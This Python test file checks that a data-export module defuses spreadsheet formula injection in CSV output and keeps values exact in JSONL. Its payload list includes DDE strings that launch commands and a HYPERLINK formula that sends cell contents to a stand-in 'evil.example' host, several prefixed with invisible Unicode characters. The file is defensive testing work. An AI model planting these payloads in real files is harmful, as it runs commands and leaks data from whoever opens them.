"""Cells: no spreadsheet runs what a CSV holds, and machines get values exact."""

from __future__ import annotations

import csv
import json
import re
import sys
import unicodedata
from pathlib import Path

import duckdb
import pytest

from graph.exports import cells
from graph.exports.tables import EXPORTS, write_table
from ingest.workspace import Workspace
from tests.graph.exports.world import snapshot_of

# What starts a formula, as the payloads of OWASP's list and of spreadsheets' own
# manuals combine it.
_BODIES = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1+1",
)
_LEADS = ("", " ", "\t", "\r", "\n", "\x00", "\u200b", "\ufeff", "\u00a0", "\u3000")
PAYLOADS = [lead + body for lead in _LEADS for body in _BODIES]

# Columns that hold text of the outside world.
_TEXT = [
    (export, column)
    for export, columns in EXPORTS.items()
    for column, kind in columns.items()
    if kind in {"id", "text"}
]


def starts_formula(cell: str) -> bool:
    """The reading of a spreadsheet, written apart from the product's own rule."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    for character in cell:
        plain = unicodedata.normalize("NFKC", character).strip()
        if plain and unicodedata.category(plain[0])[0] not in "CZM":
            return plain[0] in "=+-@|%"
    return False


def test_there_are_eighty_payloads_and_each_is_one() -> None:
    assert len(set(PAYLOADS)) == 80
    assert all(starts_formula(payload) for payload in PAYLOADS)


@pytest.mark.parametrize(("export", "column"), _TEXT)
def test_no_payload_survives_in_csv_and_all_do_for_machines(
    tmp_path: Path, export: str, column: str
) -> None:
    first = next(iter(EXPORTS[export]))
    world = {
        export: [
            {first: f"row-{number:02}"} | {column: payload}
            for number, payload in enumerate(PAYLOADS)
        ]
    }
    snapshot = snapshot_of(Workspace.open(tmp_path / "w"), world)
    write_table(snapshot, export, tmp_path / "out.csv")
    write_table(snapshot, export, tmp_path / "out.jsonl")
    with (tmp_path / "out.csv").open(newline="") as file:
        found = [row[column] for row in csv.DictReader(file)]
    lines = (tmp_path / "out.jsonl").read_bytes().splitlines()
    exact = [json.loads(line)[column] for line in lines]
    assert sorted(exact) == sorted(PAYLOADS)
    assert sorted(found) == sorted(f"'{payload}" for payload in PAYLOADS)
    assert not any(starts_formula(cell) for cell in found)


def test_every_character_that_unicode_reads_as_a_trigger_is_caught() -> None:
    triggers = [
        chr(code)
        for code in range(sys.maxunicode + 1)
        if not 0xD800 <= code < 0xE000 and starts_formula(chr(code))
    ]
    assert len(triggers) > 20
    with duckdb.connect() as connection:
        missed = [
            character
            for character in triggers
            if connection.execute(
                "SELECT regexp_matches($1, $2)", [f"{character}x", cells.FORMULA]
            ).fetchall()
            != [(True,)]
        ]
    assert missed == []


@pytest.mark.parametrize(
    "plain", ["acct_1", "user@example.com", "a:b-c.d", "-12", "@handle", "Ünïcode", "7"]
)
def test_plain_ids_stay_exact(tmp_path: Path, plain: str) -> None:
    snapshot = snapshot_of(
        Workspace.open(tmp_path / "w"), {"accounts": [{"account_id": plain}]}
    )
    write_table(snapshot, "accounts", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="") as file:
        assert next(csv.DictReader(file))["account_id"] == plain


@pytest.mark.parametrize("almost", ["-12\n", "=", "-1 ", "@a(b)"])
def test_an_id_with_one_other_character_is_text(almost: str) -> None:
    assert re.fullmatch(cells.PLAIN_ID, almost) is None
    with duckdb.connect() as connection:
        found = connection.execute(
            "SELECT regexp_matches($1, $2)", [almost, cells.PLAIN_ID]
        ).fetchall()
    assert found == [(False,)]


@pytest.mark.parametrize(
    "text", ['a"b', "a,b", "a\nb", "a\r\nb", "a\rb", "ä \U0001f600", "'quoted'"]
)
def test_csv_reads_back_as_written(tmp_path: Path, text: str) -> None:
    snapshot = snapshot_of(
        Workspace.open(tmp_path / "w"),
        {"tenants": [{"tenant_id": "t", "culprit": text}]},
    )
    write_table(snapshot, "tenants", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        assert next(csv.DictReader(file))["culprit"] == text
